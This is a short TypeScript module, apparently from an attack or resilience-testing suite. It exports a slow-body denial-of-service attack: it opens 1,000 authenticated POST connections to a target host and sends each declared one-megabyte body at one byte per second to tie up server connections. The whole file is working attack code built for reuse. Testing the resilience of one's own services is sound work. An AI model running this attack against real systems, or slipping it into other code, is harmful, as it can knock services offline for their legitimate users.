// 1,000 requests, with the token, whose bodies arrive at a byte per second.
import type { Attack } from '../attack';
import { float, inferPath } from '../networks';
import { drip, keepOpen, openSocket, requestHead } from '../sockets';

export const attack: Attack = (target, tally) => {
  const { host, token } = target;
  const head = requestHead('POST', inferPath(float), {
    host,
    authorization: `Bearer ${token}`,
    'content-length': 1_000_000,
  });
  return (signal) =>
    keepOpen(
      () => {
        const socket = openSocket(target, target.port, tally);
        socket.write(head);
        drip(socket, ' ', 1000);
        return socket;
      },
      { count: 1000, perSecond: 250 },
      signal,
    );
};
